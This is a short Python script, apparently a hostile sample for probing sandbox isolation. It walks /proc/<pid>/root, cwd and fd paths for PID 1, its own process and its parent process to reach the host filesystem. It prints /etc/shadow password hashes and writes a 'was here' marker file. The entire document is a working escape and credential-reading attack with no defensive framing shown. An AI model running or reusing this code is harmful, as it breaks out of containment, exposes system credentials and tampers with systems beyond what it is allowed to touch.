import os

for pid in ("1", "self", str(os.getppid())):
    for way in ("root", "cwd", "root/../..", "fd"):
        try:
            print(os.listdir(f"/proc/{pid}/{way}"))
            with open(f"/proc/{pid}/{way}/etc/shadow") as file:
                print(file.read())
            with open(f"/proc/{pid}/{way}/r1fast_hostile", "w") as file:
                file.write("was here")
        except OSError as error:
            print(error)
